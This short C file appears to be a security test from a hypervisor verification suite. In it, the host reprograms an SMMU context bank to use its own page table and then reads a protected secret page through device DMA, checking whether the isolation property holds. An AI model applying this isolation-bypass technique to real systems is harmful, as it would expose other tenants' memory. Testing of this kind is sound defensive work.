// A bank translates by a table that the host made (TTBR0).
// Property: bankRegistersAreKCores.
#include "host.h"

u64 attack(void) {
  struct vm vm = make_vm();
  u64 value = 0, page = secret_page(&vm), table = own_table(page);
  u64 why = smmu_write(CBA2R(0), 1);
  why |= smmu_write(BANK(0) + TCR, 24 + (1 << 6) + (2 << 16));
  why |= smmu_write(BANK(0) + TTBR0, table);
  why |= smmu_write(BANK(0) + TTBR0_HIGH, table >> 32);
  why |= smmu_write(BANK(0) + SCTLR, 0x61);
  why |= smmu_write(SCR0, 0x200400);
  why |= route_stream(0);
  u64 fault = device_read(STREAM, page, &value);
  u64 end = got(fault, value);
  return end == GOT_IT ? GOT_IT : why != 0 ? why : end;
}
